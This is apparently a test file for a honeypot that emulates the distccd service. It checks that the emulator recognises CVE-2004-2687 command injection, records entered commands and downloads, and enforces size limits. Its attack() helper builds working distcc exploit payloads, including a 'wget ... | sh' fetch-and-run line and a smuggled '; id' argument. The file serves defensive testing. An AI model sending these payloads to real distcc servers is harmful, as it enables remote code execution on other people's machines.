"""distccd: whoever calls a shell his compiler has it run; what is to be compiled is kept."""

from __future__ import annotations

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised
from eudaemon.protocols import distcc
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols.distcc import Distcc
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse


def job(*words: bytes, source: bytes = b"A\n", version: int = 1) -> bytes:
    """What a client sends."""
    said = b"DIST%08xARGC%08x" % (version, len(words)) + b"".join(b"ARGV%08x%s" % (len(word), word) for word in words)
    return said + b"DOTI%08x%s" % (len(source), source)


def attack(command: bytes, shell: bytes = b"sh") -> bytes:
    return job(shell, b"-c", command, b"#", b"-c", b"main.c", b"-o", b"main.o")


def talk(bytes_max: int = 32 << 20) -> Table:
    return Table(Distcc(visit(port=3632, purse=Purse(bytes_max)))).open()


@pytest.mark.parametrize("split", [0, 1])
def test_what_is_called_a_compiler_runs(split: int) -> None:
    table = talk()
    assert (
        table.say(attack(b"echo $((6*7))"), split)
        == b"DONE00000001STAT00000000SERR00000000SOUT0000000342\nDOTO00000000"
    )
    assert ExploitRecognised("distcc-command", "CVE-2004-2687", "echo $((6*7))") in table.facts
    assert table.say(attack(b"false", b"/bin/bash"), split).startswith(b"DONE00000001STAT00000100")
    assert table.say(job(b"uname", b"-m", b"; id"), split)
    assert [fact.line for fact in table.facts if isinstance(fact, CommandEntered)][-1] == "uname -m '; id'"
    assert [keep.data for keep in table.kept] == [b"A\n"] * 3


@pytest.mark.parametrize("split", [0, 1])
def test_a_download_holds_the_answer_and_the_next_job_up(split: int) -> None:
    table = talk()
    assert table.say(attack(b"wget -qO- http://198.51.100.7/x | sh") + attack(b"echo 2"), split) == b""
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"]
    table.tell(HalfClosed(table.at_s))
    table.answer("ok", b"echo 1\n")
    assert b"SOUT000000021\n" in table.sent
    assert b"SOUT000000022\n" in table.sent
    assert table.over
    table.end()


def test_who_really_compiles_hears_that_there_is_no_compiler() -> None:
    table = talk()
    answer = table.say(job(b"x86_64-linux-gnu-gcc-12", b"-c", b"a.i", b"-o", b"a.o", source=b"int a;\n", version=2))
    assert answer.startswith(b"DONE00000002STAT00007f00SERR")
    assert answer.endswith(b"No such file or directory\nSOUT00000000DOTO00000000")
    assert not any(isinstance(fact, ExploitRecognised) for fact in table.facts)
    assert [(keep.data, keep.partial) for keep in table.kept] == [(b"int a;\n", False)]
    table.say(job())
    assert table.sent.endswith(b"STAT00007f00SERR00000000SOUT00000000DOTO00000000")


def test_limits() -> None:
    for words, fault in ((distcc.WORDS_MAX, ""), (distcc.WORDS_MAX + 1, "words")):
        table = talk()
        table.say(b"DIST00000001ARGC%08x" % words)
        assert fault in table.fault
        assert bool(table.fault) == bool(fault)
    for size, fault in ((distcc.PART_BYTES_MAX, ""), (distcc.PART_BYTES_MAX + 1, "over")):
        table = talk()
        table.say(b"ARGC00000001ARGV%08x" % size + bytes(size))
        assert fault in table.fault
        assert bool(table.fault) == bool(fault)
    table = talk()
    table.say(b"DOTI%08x" % (distcc.SOURCE_BYTES_MAX + 1))
    assert "over" in table.fault
    table = talk()
    table.say(b"ARGC00000001ARGV00000001aARGV00000001b")
    assert "announced" in table.fault
    table = talk()
    for _ in range(distcc.JOBS_MAX):
        table.say(job(b"true"))
    assert not table.fault
    table.say(job(b"true"))
    assert "jobs" in table.fault
    table = talk(100)
    table.say(b"DOTI00000100" + bytes(100))
    assert "holds" in table.fault
    table = talk()
    table.say(attack(b"wget http://198.51.100.7/x"))
    for _ in range(distcc.SOURCE_BYTES_MAX // (1 << 20)):
        table.say(bytes(1 << 20))
    assert not table.fault
    table.say(bytes(20))
    assert "while a command runs" in table.fault


def test_whose_conversation_it_is() -> None:
    claims = [Distcc.claim(attack(b"id")[:size]) for size in range(1, 12)]
    assert claims == sorted(claims)
    assert claims[-1] == Claim.YES
    assert Distcc.claim(b"DISC") == Claim.NO
